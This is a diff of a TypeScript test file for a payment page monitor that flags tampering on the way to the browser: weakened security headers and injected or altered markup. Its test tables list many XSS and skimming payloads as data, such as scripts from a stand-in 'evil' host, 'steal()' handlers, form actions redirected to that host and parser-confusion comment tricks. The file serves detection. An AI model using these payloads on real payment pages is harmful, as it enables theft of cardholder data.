@@ -5,7 +5,8 @@ import { join } from "node:path";
 import { test } from "node:test";
 import * as inline from "../cardholder/scripts.ts";
 import { makeAssets } from "./assets.ts";
-import { findPageFaults, type ReceivedPage } from "./page-watch.ts";
+import { checkPage, type Expected, type ReceivedPage } from "./page-watch.ts";
+import type { PaymentView } from "./payment-page.ts";
 import { listScripts } from "./script-inventory.ts";
 import { plainView, servePage } from "./testing.ts";
 
@@ -28,51 +29,182 @@ test("the inventory has every script of the pages, each with a reason", () => {
   assert.deepEqual(makers, ["cardholder/scripts.ts"]);
 });
 
-test("a page as the gateway sends it has no fault, framed and with wallets, at both addresses", async (t) => {
-  const framed = { ...plainView, framedBy: ["https://shop.example", "https://www.shop.example"] };
-  const method = "https://wallet.example/pay";
-  const wallet = { wallet: "walletb", type: "walletb_encrypted", method, data: {} } as const;
-  const offering = await receive(t, "/pay/t0ken", { ...framed, wallets: [wallet] });
+const method = "https://wallet.example/pay?v=1&c=2";
+const embedOrigins = ["https://shop.example", "https://www.shop.example"];
+const expected: Expected = { embedOrigins: [], walletMethods: [], otherHeaders: [] };
 
-  assert.deepEqual(findPageFaults(await receive(t), assets), []);
-  assert.deepEqual(findPageFaults(await receive(t, "/pay/t0ken/"), assets), []);
-  assert.deepEqual(findPageFaults(await receive(t, "/pay/t0ken", framed), assets), []);
-  assert.deepEqual(findPageFaults({ ...offering, walletMethods: [method] }, assets), []);
-  assert.match(String(findPageFaults(offering, assets)), /^The directive connect-src/);
+/** With every element that the page can have. */
+const full: PaymentView = {
+  ...plainView,
+  kind: "preauth",
+  framedBy: embedOrigins,
+  shop: { name: "<Sun> & 'Co'", colour: "#ffd400", logo: "data:image/png;base64,iVBORw0KGgo=" },
+  wanted: [
+    ...(["firstName", "lastName", "email", "phone"] as const),
+    ...(["address", "zipCode", "city", "country", "state"] as const),
+  ],
+  refusal: "insufficient_funds",
+  ...{ triesLeft: 2, challenge: "1.a-b_c", linkPage: "p4ge" },
+  refilled: { faults: new Map(), values: new Map([["country", "US"]]) },
+  wallets: [{ wallet: "walletb", type: "walletb_encrypted", method, data: { a: "<b>" } }],
+};
+
+test("a page as the gateway sends it has no fault, at both addresses and with everything", async (t) => {
+  const found = await receive(t, "/pay/t0ken", full);
+  const faulty: PaymentView = {
+    ...full,
+    refilled: { faults: new Map([["email", "wrong"]]), values: new Map() },
+  };
+  const secure = { ...(await receive(t)), url: new URL("https://pay.example/pay/t0ken") };
+  const hsts = { "strict-transport-security": "max-age=31536000; includeSubDomains" };
+  const allowed = { ...expected, embedOrigins: embedOrigins.toReversed(), walletMethods: [method] };
+
+  assert.deepEqual(faultsOf(await receive(t)), []);
+  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken/")), []);
+  assert.deepEqual(faultsOf(change(secure, hsts)), []);
+  assert.deepEqual(faultsOf(found, allowed), []);
+  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken/", full, "de"), allowed), []);
+  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken", faulty), allowed), []);
+  assert.deepEqual(faultsOf(await receive(t, "/pay/t0ken", { ...full, wallets: [] }), allowed), []);
 });
 
-test("each change on the way to the browser is a fault", async (t) => {
+test("what the operator has to expect is a fault without that", async (t) => {
+  const framed = faultsOf(await receive(t, "/pay/t0ken", { ...plainView, framedBy: embedOrigins }));
+  const offering = faultsOf(await receive(t, "/pay/t0ken", { ...full, framedBy: [] }));
+  const proxied = change(await receive(t), { "x-served-by": "edge7" });
+
+  assert.match(framed.join("\n"), /^The directive frame-ancestors .*\nThe page has <form .*$/);
+  assert.match(offering.join("\n"), /^The directive connect-src .*\nThe page has <button .*$/);
+  assert.match(String(faultsOf(proxied)), /^The gateway does not send the header x-served-by, /);
+  assert.deepEqual(faultsOf(proxied, { ...expected, otherHeaders: ["x-served-by"] }), []);
+});
+
+test("markup that changes nothing is none, such as other quotes and a plain comment", async (t) => {
   const page = await receive(t);
+  const body = page.body
+    .replace('<form id="pay" method="post"', "<FORM\tid=pay\nmethod = 'post'/")
+    .replace("</form>", "</form ><!-- by the edge - 7 -->");
+
+  assert.notEqual(body, page.body);
+  assert.deepEqual(faultsOf({ ...page, body }), []);
+});
+
+test("each header that was changed on the way to the browser is a fault", async (t) => {
+  const page = await receive(t);
+  const secure = { ...page, url: new URL("https://pay.example/pay/t0ken") };
   const policy = String(page.headers.get("content-security-policy"));
   const withPolicy = (from: string, to: string) =>
     change(page, { "content-security-policy": policy.replace(from, to) });
-  const withBody = (from: string, to: string) => ({ ...page, body: page.body.replace(from, to) });
-  const script = /<script[^>]*><\/script>/.exec(page.body)?.[0] ?? "";
 
   // biome-ignore format: a table
   const changed: readonly (readonly [ReceivedPage, RegExp])[] = [
-    [withPolicy("script-src 'self'", `script-src 'self' ${evil}`),   /^The directive script-src of the policy is 'self' https:\/\/evil/],
-    [withPolicy("base-uri", "script-src-elem *; base-uri"),          /^The directive script-src-elem of the policy is \*/],
-    [withPolicy("base-uri", `connect-src 'self' ${evil}; base-uri`), /^The directive connect-src/],
-    [withPolicy("frame-ancestors 'none'", "frame-ancestors *"),      /^The directive frame-ancestors/],
-    [withPolicy("report-uri reports", `report-uri ${evil}`),         /^The directive report-uri/],
-    [change(page, { "content-security-policy": null }),              /^The directive default-src of the policy is missing/],
-    [change(page, { "referrer-policy": "unsafe-url" }),              /^The header referrer-policy is unsafe-url/],
-    [change(page, { "reporting-endpoints": null }),                  /^The header reporting-endpoints is missing/],
-    [{ ...page, isSecure: true },                                    /^The header strict-transport-security is missing/],
-    [withBody("</form>", `</form><script src="${evil}"></script>`),  /^The page has <script src="https:\/\/evil.*not in the inventory/],
-    [withBody("</form>", "</form><SCRIPT>steal()</SCRIPT>"),         /^The page has <SCRIPT>steal/],
-    [withBody("<main", '<main onclick="steal()"'),                   /^The page has <main onclick/],
-    [withBody("</form>", `</form><iframe src="${evil}"></iframe>`),  /^The page has <iframe/],
-    [withBody('integrity="sha384-', 'integrity="sha384-x'),          /^The page has <link rel="stylesheet"/],
-    [withBody(script, ""),                                           /^The page does not load pay\./],
-    [withBody('<form id="pay"', "<form"),                            /^The answer, of status 200, is no payment page/],
-    [{ ...page, status: 303, body: "" },                             /^The answer, of status 303, is no payment page/],
+    [withPolicy("script-src 'self'", `script-src 'self' ${evil}`),    /^The directive script-src of the policy is 'self' https:\/\/evil/],
+    [withPolicy("base-uri", "script-src-elem *; base-uri"),           /^The directive script-src-elem of the policy is \*/],
+    [withPolicy("base-uri", `connect-src 'self' ${evil}; base-uri`),  /^The directive connect-src/],
+    [withPolicy("base-uri", "sandbox; base-uri"),                     /^The directive sandbox of the policy is \./],
+    [withPolicy("frame-ancestors 'none'", "frame-ancestors *"),       /^The directive frame-ancestors/],
+    [withPolicy("frame-ancestors 'none'", `frame-ancestors ${evil}`), /^The directive frame-ancestors/],
+    [withPolicy("report-uri reports", `report-uri ${evil}`),          /^The directive report-uri/],
+    [withPolicy("report-uri reports", "report-uri ../reports"),       /^The directive report-uri/],
+    [withPolicy("script-src 'self'", "script-src *; script-src 'self'"), /^The directive script-src of the policy is \*/],
+    [withPolicy("script-src 'self'", "Script-Src *; script-src 'self'"), /^The directive script-src of the policy is \*/],
+    [withPolicy("base-uri", "script-src 'self'; base-uri"),           /^The policy has a directive twice/],
+    [change(page, { "content-security-policy": `${policy}, ${policy}` }), /^The page has several policies/],
+    [change(page, { "content-security-policy": null }),               /^The directive default-src of the policy is missing/],
+    [change(page, { "content-security-policy-report-only": `report-uri ${evil}` }), /^The gateway does not send the header content-security-policy-report-only/],
+    [change(page, { "refresh": `0;url=${evil}` }),                    /^The gateway does not send the header refresh, which is 0;url=https/],
+    [change(page, { "link": `<${evil}/a.css>; rel=stylesheet` }),     /^The header link is <https:\/\/evil/],
+    [change(page, { "link": `<pay.js>; rel=modulepreload` }),         /^The header link is <pay\.js/],
+    [change(page, { "referrer-policy": "unsafe-url" }),               /^The header referrer-policy is unsafe-url/],
+    [change(page, { "reporting-endpoints": null }),                   /^The header reporting-endpoints is missing/],
+    [secure,                                                          /^The header strict-transport-security is missing/],
+    [change(secure, { "strict-transport-security": "max-age=0" }),    /^The header strict-transport-security is max-age=0/],
+    [change(secure, { "strict-transport-security": "max-age=86400; preload" }), /^The header strict-transport-security is max-age=86400/],
+    [change(secure, { "strict-transport-security": "max-age=0, max-age=31536000" }), /^The header strict-transport-security is max-age=0, /],
   ];
-  for (const [received, expected] of changed) {
-    const [first = "none"] = findPageFaults(received, assets);
-    assert.match(first, expected);
+  for (const [received, fault] of changed) {
+    const [first = "none"] = faultsOf(received);
+    assert.match(first, fault);
   }
+});
+
+const own = assets.script;
+
+// biome-ignore format: a table
+const added: readonly (readonly [markup: string, RegExp])[] = [
+  [`<script src="${evil}"></script>`,                         /^The page has <script src="https:\/\/evil.*not in the inventory/],
+  [`<script src=${evil}></script>`,                           /^The page has <script src=https/],
+  [`<script/src='${evil}'/></script>`,                        /^The page has <script\/src/],
+  ["<SCRIPT>steal()</SCRIPT>",                                /^The page has <SCRIPT>steal/],
+  ['<script type="importmap">{}</script>',                    /^The page has <script type="importmap">\{\}/],
+  [`<script src="${own.name}" src=${evil} integrity="${own.integrity}" async></script>`, /^The page has <script src="pay/],
+  [`<script src="embed.js" integrity="${assets.find("embed.js")?.integrity}"></script>`, /^The page has <script src="embed/],
+  ["<svg/onload=steal()>",                                    /^The page has <svg\/onload/],
+  ["<svg/onload=steal()",                                     /^The page has <svg\/onload/],
+  ['<p class="&quot;>" onfocus=steal()>',                     /^The page has <p class="&quot;>" onfocus/],
+  [`<iframe src="${evil}"></iframe>`,                         /^The page has <iframe/],
+  ["<iframe srcdoc='<p>'></iframe>",                          /^The page has <iframe srcdoc/],
+  [`<object data=${evil}></object>`,                          /^The page has <object/],
+  [`<embed src=${evil}>`,                                     /^The page has <embed/],
+  ["<base href=//evil.example>",                              /^The page has <base/],
+  [`<meta http-equiv=refresh content=0;url=${evil}>`,         /^The page has <meta http-equiv=refresh/],
+  ["<meta name='referrer' content='unsafe-url'>",             /^The page has <meta name='referrer'/],
+  [`<input type="image" src="${evil}">`,                      /^The page has <input type="image"/],
+  ['<a href="javascript:steal()">',                           /^The page has <a href/],
+  [`<img src="${evil}/a.png" alt="">`,                        /^The page has <img/],
+  [`<link rel=stylesheet href=${evil}>`,                      /^The page has <link rel=stylesheet/],
+  [`<link rel=preload as=script href=${evil}>`,               /^The page has <link rel=preload/],
+  [`<link rel=modulepreload href=${evil}>`,                   /^The page has <link rel=modulepreload/],
+  ["<style>p { color: red }</style>",                         /^The page has <style>/],
+  [`<!--><script src=${evil}></script>-->`,                   /^The page has <!-->/],
+  [`<!-- --!><script src=${evil}></script>-->`,               /^The page has <!-- --!>/],
+  [`<noscript><!--</noscript><script src=${evil}></script>-->`, /^The page has <!--<\/noscript>/],
+  ["<![CDATA[<script>]]>",                                    /^The page has <!\[CDATA/],
+  ["<blink>",                                                 /^The page has <blink>/],
+  ["</blink>",                                                /^The page has <\/blink>/],
+];
+
+// biome-ignore format: a table
+const replaced: readonly (readonly [from: string | RegExp, to: string, RegExp])[] = [
+  ["<script src=", `<script src="${evil}" src=`,              /^The page has <script src="https:\/\/evil/],
+  ["</script>", "steal()</script>",                           /^The page has <script .*>steal\(\)/],
+  ["<main", '<main onclick="steal()"',                        /^The page has <main onclick/],
+  ["<main", "<main\nONCLICK\n=\n'steal()'",                   /^The page has <main ONCLICK/],
+  ['<main class="pay"', '<main class="pay"onclick=steal()',   /^The page has <main class="pay"onclick/],
+  ["1801;url=t0ken", `1801;url=${evil}`,                      /^The page has <meta http-equiv="refresh"/],
+  ["1801;url=t0ken", "1801;url=&#104;ttps://evil.example",    /^The page has <meta http-equiv="refresh"/],
+  ['<form id="pay"', `<form id="pay" action="${evil}"`,       /^The page has <form id="pay" action/],
+  ['<form id="pay"', `<form id="pay" data-embed="${evil}"`,   /^The page has <form id="pay" data-embed/],
+  ['method="post"', 'method="get"',                           /^The page has <form id="pay" method="get"/],
+  ['<button type="submit"', `<button type="submit" formaction=${evil}`, /^The page has <button type="submit" formaction/],
+  ['<use href="#mark-none"', '<use href="&#106;avascript:steal()"', /^The page has <use href="&#106;/],
+  ['<use href="#mark-none"', `<use href="${evil}#mark-none"`, /^The page has <use href="https/],
+  ['fill="none"', `fill="url(${evil})"`,                      /^The page has <\w+ [^>]*fill="url/],
+  ['integrity="sha384-', 'integrity="sha384-x',               /^The page has <link rel="stylesheet"/],
+  ["<main", '<main style="display:none"',                     /^The page has <main style/],
+  ["</title>", '<p class="</title><script>steal()</script>">', /^The page has <p class="<\/title>/],
+  [/<script[^>]*><\/script>/, "",                             /^The page does not load pay\./],
+  ['<form id="pay"', "<form",                                 /^The answer, of status 200, is no payment page/],
+];
+
+test("each element that was added or changed on the way to the browser is a fault", async (t) => {
+  const page = await receive(t);
+  const { body } = page;
+  const bodies: readonly (readonly [string, RegExp])[] = [
+    ...added.map(([markup, fault]) => {
+      return [body.replace("</form>", `</form>${markup}`), fault] as const;
+    }),
+    ...replaced.map(([from, to, fault]) => [body.replace(from, to), fault] as const),
+    [`${body}<img src="`, /^The page has <img src="/],
+    [`\uFFFD${body}`, /^The answer, of status 200, is no payment page/],
+  ];
+
+  for (const [changed, fault] of bodies) {
+    const [first = "none"] = faultsOf({ ...page, body: changed });
+    assert.match(first, fault);
+  }
+  const [elsewhere = "none"] = faultsOf({ ...page, status: 303, body: "" });
+  assert.match(elsewhere, /^The answer, of status 303, is no payment page/);
 });
 
 test("browsers' reports of both kinds are read, without the page's address, and few of a request", async (t) => {
@@ -105,19 +237,29 @@ test("browsers' reports of both kinds are read, without the page's address, and 
 
 async function receive(
   t: Parameters<typeof servePage>[0],
-  url = "/pay/t0ken",
-  view = plainView,
+  path = "/pay/t0ken",
+  view: PaymentView = plainView,
+  language = "en",
 ): Promise<ReceivedPage> {
-  const { statusCode, headers, body } = await servePage(t, view).server.inject(url);
+  const asked = { url: path, headers: { "accept-language": language } };
+  const { statusCode, headers, body } = await servePage(t, view).server.inject(asked);
   const received = new Headers(
     Object.entries(headers).map(([name, value]) => [name, String(value)]),
   );
-  return { status: statusCode, isSecure: false, headers: received, body, walletMethods: [] };
+  const url = new URL(path, "http://pay.example");
+  return { url, status: statusCode, headers: received, body };
+}
+
+function faultsOf(page: ReceivedPage, allowed = expected): readonly string[] {
+  return checkPage(page, allowed, assets).faults;
 }
 
 /** Without the headers that are null. */
 function change(page: ReceivedPage, changes: Readonly<Record<string, string | null>>) {
-  const get = (name: string) =>
-    name in changes ? (changes[name] ?? null) : page.headers.get(name);
-  return { ...page, headers: { get } };
+  const headers = new Headers(page.headers);
+  for (const [name, value] of Object.entries(changes)) {
+    if (value === null) headers.delete(name);
+    else headers.set(name, value);
+  }
+  return { ...page, headers };
 }
